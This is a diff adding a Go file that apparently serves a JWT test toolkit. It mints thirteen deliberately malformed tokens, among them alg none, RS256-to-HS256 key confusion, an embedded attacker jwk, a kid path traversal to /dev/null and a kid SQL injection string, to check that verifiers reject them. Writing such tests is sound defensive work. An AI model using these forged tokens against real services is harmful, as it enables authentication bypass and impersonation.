@@ -0,0 +1,355 @@
+package jwttools
+
+import (
+	"bytes"
+	"context"
+	"crypto"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/hmac"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/sha512"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"hash"
+	"sort"
+	"strings"
+
+	"github.com/google/uuid"
+	"github.com/lestrrat-go/jwx/v2/jwa"
+	"github.com/lestrrat-go/jwx/v2/jwk"
+	"github.com/lestrrat-go/jwx/v2/jws"
+)
+
+// Attack is a kind of deliberately broken token, for testing that they're rejected
+type Attack struct {
+	Name        string
+	Description string
+	mint        func(a *attackToken) (string, error)
+}
+
+// Attacks are all the broken tokens MintAttack can make
+var Attacks = []Attack{
+	{"none", "alg none and no signature", attackNone},
+	{"hs-confusion", "HS256 signed with the PEM of the public key as the secret, the RS256 to HS256 key confusion", attackHSConfusion},
+	{"strip-sig", "a good token with the signature removed", attackStripSignature},
+	{"truncate-sig", "a good token with half the signature cut off", attackTruncateSignature},
+	{"flip-sig", "a good token with one bit of the signature flipped", attackFlipSignature},
+	{"wrong-kid", "signed with the right key but with a kid that isn't in any JWKS", attackWrongKid},
+	{"embedded-jwk", "signed with a new key whose public half is in a jwk header", attackEmbeddedJWK},
+	{"kid-traversal", "a kid of ../../../../../../dev/null and HS256 with an empty secret", attackKidTraversal},
+	{"kid-sqli", "a kid with SQL injection that selects the HS256 secret used to sign it", attackKidSQLInjection},
+	{"crit", "signed with the right key but with a crit header naming an unknown extension", attackCrit},
+	{"dup-keys", "duplicate alg in the header, none first, and a sub of admin after the real one in the payload", attackDuplicateKeys},
+	{"b64-padding", "signed with the right key but with base64 padding on every part", attackBase64Padding},
+	{"b64-bits", "a good token with the unused bits at the end of the signature set, so it decodes to the same bytes", attackBase64Bits},
+}
+
+// attackSecret is what the kid-sqli kid selects
+const attackSecret = "attack"
+
+// attackToken is a token being broken. The header is kept as a list so that the order of the
+// members, and duplicates, can be controlled
+type attackToken struct {
+	signer  Signer
+	header  []headerField
+	payload []byte
+}
+
+type headerField struct {
+	name  string
+	value interface{}
+}
+
+// MintAttack makes the named kind of broken token from the claims, signer and options. The
+// options are applied in the same way as Mint
+func MintAttack(ctx context.Context, name string, claims Claims, signer Signer, opts MintOptions) (string, error) {
+	var attack *Attack
+	for i := range Attacks {
+		if Attacks[i].Name == name {
+			attack = &Attacks[i]
+		}
+	}
+	if attack == nil {
+		return "", fmt.Errorf("unknown attack %q", name)
+	}
+
+	t, err := NewToken(claims, opts)
+	if err != nil {
+		return "", err
+	}
+	payload, err := json.Marshal(t)
+	if err != nil {
+		return "", err
+	}
+	hdrs, err := signer.protectedHeaders(opts)
+	if err != nil {
+		return "", err
+	}
+	m, err := hdrs.AsMap(ctx)
+	if err != nil {
+		return "", err
+	}
+	if _, ok := m[jws.TypeKey]; !ok {
+		m[jws.TypeKey] = "JWT"
+	}
+	a := &attackToken{signer: signer, payload: payload}
+	a.set(jws.AlgorithmKey, signer.Algorithm)
+	names := make([]string, 0, len(m))
+	for name := range m {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	for _, name := range names {
+		if name != jws.AlgorithmKey {
+			a.set(name, m[name])
+		}
+	}
+	return attack.mint(a)
+}
+
+// set replaces a header, or adds it at the end
+func (a *attackToken) set(name string, value interface{}) {
+	for i := range a.header {
+		if a.header[i].name == name {
+			a.header[i].value = value
+			return
+		}
+	}
+	a.header = append(a.header, headerField{name, value})
+}
+
+// headerJSON writes the header in order, duplicates and all
+func (a *attackToken) headerJSON() ([]byte, error) {
+	var buf bytes.Buffer
+	buf.WriteByte('{')
+	for i, field := range a.header {
+		if i > 0 {
+			buf.WriteByte(',')
+		}
+		name, _ := json.Marshal(field.name)
+		value, err := json.Marshal(field.value)
+		if err != nil {
+			return nil, fmt.Errorf("header %s: %w", field.name, err)
+		}
+		buf.Write(name)
+		buf.WriteByte(':')
+		buf.Write(value)
+	}
+	buf.WriteByte('}')
+	return buf.Bytes(), nil
+}
+
+// signingInput is the first two parts of the token
+func (a *attackToken) signingInput() (string, error) {
+	header, err := a.headerJSON()
+	if err != nil {
+		return "", err
+	}
+	return b64(header) + "." + b64(a.payload), nil
+}
+
+// sign signs the token with the key and alg in the header
+func (a *attackToken) sign(key interface{}) (string, error) {
+	input, err := a.signingInput()
+	if err != nil {
+		return "", err
+	}
+	sig, err := signRaw(a.alg(), key, []byte(input))
+	if err != nil {
+		return "", err
+	}
+	return input + "." + b64(sig), nil
+}
+
+// alg is the last alg in the header, as that's the one that's signed with
+func (a *attackToken) alg() string {
+	alg := ""
+	for _, field := range a.header {
+		if field.name == jws.AlgorithmKey {
+			alg, _ = field.value.(string)
+		}
+	}
+	return alg
+}
+
+func b64(data []byte) string {
+	return base64.RawURLEncoding.EncodeToString(data)
+}
+
+// signRaw signs the exact bytes given. HMAC is done here rather than by jwx because jwx refuses
+// an empty secret, which is the point of kid-traversal
+func signRaw(alg string, key interface{}, input []byte) ([]byte, error) {
+	if secret, ok := key.([]byte); ok {
+		var h func() hash.Hash
+		switch jwa.SignatureAlgorithm(alg) {
+		case jwa.HS256:
+			h = sha256.New
+		case jwa.HS384:
+			h = sha512.New384
+		case jwa.HS512:
+			h = sha512.New
+		default:
+			return nil, fmt.Errorf("a secret can't be used with %s", alg)
+		}
+		mac := hmac.New(h, secret)
+		mac.Write(input)
+		return mac.Sum(nil), nil
+	}
+	signer, err := jws.NewSigner(jwa.SignatureAlgorithm(alg))
+	if err != nil {
+		return nil, err
+	}
+	return signer.Sign(input, key)
+}
+
+func attackNone(a *attackToken) (string, error) {
+	a.set(jws.AlgorithmKey, jwa.NoSignature.String())
+	input, err := a.signingInput()
+	return input + ".", err
+}
+
+func attackHSConfusion(a *attackToken) (string, error) {
+	private, ok := a.signer.Key.(crypto.Signer)
+	if !ok {
+		return "", fmt.Errorf("hs-confusion needs a public key, not an HMAC secret")
+	}
+	der, err := x509.MarshalPKIXPublicKey(private.Public())
+	if err != nil {
+		return "", err
+	}
+	a.set(jws.AlgorithmKey, jwa.HS256.String())
+	return a.sign(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
+}
+
+func attackStripSignature(a *attackToken) (string, error) {
+	input, err := a.signingInput()
+	return input + ".", err
+}
+
+// goodSignature is the real signature of the token
+func (a *attackToken) goodSignature() (string, []byte, error) {
+	token, err := a.sign(a.signer.Key)
+	if err != nil {
+		return "", nil, err
+	}
+	input := token[:strings.LastIndex(token, ".")]
+	sig, err := base64.RawURLEncoding.DecodeString(token[len(input)+1:])
+	return input, sig, err
+}
+
+func attackTruncateSignature(a *attackToken) (string, error) {
+	input, sig, err := a.goodSignature()
+	if err != nil {
+		return "", err
+	}
+	return input + "." + b64(sig[:len(sig)/2]), nil
+}
+
+func attackFlipSignature(a *attackToken) (string, error) {
+	input, sig, err := a.goodSignature()
+	if err != nil {
+		return "", err
+	}
+	sig[len(sig)/2] ^= 0x01
+	return input + "." + b64(sig), nil
+}
+
+func attackWrongKid(a *attackToken) (string, error) {
+	a.set(jws.KeyIDKey, "wrong-"+uuid.New().String())
+	return a.sign(a.signer.Key)
+}
+
+func attackEmbeddedJWK(a *attackToken) (string, error) {
+	// a new key of the same kind, so the alg stays the same
+	var key crypto.Signer
+	var err error
+	switch {
+	case strings.HasPrefix(a.alg(), "ES"):
+		curve := map[string]elliptic.Curve{"ES256": elliptic.P256(), "ES384": elliptic.P384(), "ES512": elliptic.P521()}[a.alg()]
+		key, err = ecdsa.GenerateKey(curve, rand.Reader)
+	case strings.HasPrefix(a.alg(), "RS"), strings.HasPrefix(a.alg(), "PS"):
+		key, err = rsa.GenerateKey(rand.Reader, 2048)
+	default:
+		// HMAC and EdDSA signers get an RSA key
+		a.set(jws.AlgorithmKey, jwa.RS256.String())
+		key, err = rsa.GenerateKey(rand.Reader, 2048)
+	}
+	if err != nil {
+		return "", err
+	}
+	public, err := jwk.FromRaw(key.Public())
+	if err != nil {
+		return "", err
+	}
+	a.set(jws.JWKKey, public)
+	return a.sign(key)
+}
+
+func attackKidTraversal(a *attackToken) (string, error) {
+	a.set(jws.AlgorithmKey, jwa.HS256.String())
+	a.set(jws.KeyIDKey, "../../../../../../dev/null")
+	return a.sign([]byte{})
+}
+
+func attackKidSQLInjection(a *attackToken) (string, error) {
+	a.set(jws.AlgorithmKey, jwa.HS256.String())
+	a.set(jws.KeyIDKey, "x' UNION SELECT '"+attackSecret+"' -- ")
+	return a.sign([]byte(attackSecret))
+}
+
+func attackCrit(a *attackToken) (string, error) {
+	a.set(jws.CriticalKey, []string{"x-unknown-extension"})
+	a.set("x-unknown-extension", true)
+	return a.sign(a.signer.Key)
+}
+
+func attackDuplicateKeys(a *attackToken) (string, error) {
+	// parsers that keep the first alg see none, those that keep the last see the real one
+	a.header = append([]headerField{{jws.AlgorithmKey, jwa.NoSignature.String()}}, a.header...)
+	closing := bytes.LastIndexByte(a.payload, '}')
+	dup := []byte(`"sub":"admin"}`)
+	if closing > 1 {
+		dup = append([]byte(","), dup...)
+	}
+	a.payload = append(a.payload[:closing:closing], dup...)
+	return a.sign(a.signer.Key)
+}
+
+func attackBase64Padding(a *attackToken) (string, error) {
+	header, err := a.headerJSON()
+	if err != nil {
+		return "", err
+	}
+	input := base64.URLEncoding.EncodeToString(header) + "." + base64.URLEncoding.EncodeToString(a.payload)
+	sig, err := signRaw(a.alg(), a.signer.Key, []byte(input))
+	if err != nil {
+		return "", err
+	}
+	return input + "." + base64.URLEncoding.EncodeToString(sig), nil
+}
+
+func attackBase64Bits(a *attackToken) (string, error) {
+	input, sig, err := a.goodSignature()
+	if err != nil {
+		return "", err
+	}
+	if len(sig)%3 == 0 {
+		return "", fmt.Errorf("a %d byte signature has no unused bits", len(sig))
+	}
+	// the last character holds 2 or 4 bits that aren't part of the signature, set them all
+	unused := 0x0f
+	if len(sig)%3 == 2 {
+		unused = 0x03
+	}
+	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
+	encoded := []byte(b64(sig))
+	last := strings.IndexByte(alphabet, encoded[len(encoded)-1])
+	encoded[len(encoded)-1] = alphabet[last|unused]
+	return input + "." + string(encoded), nil
+}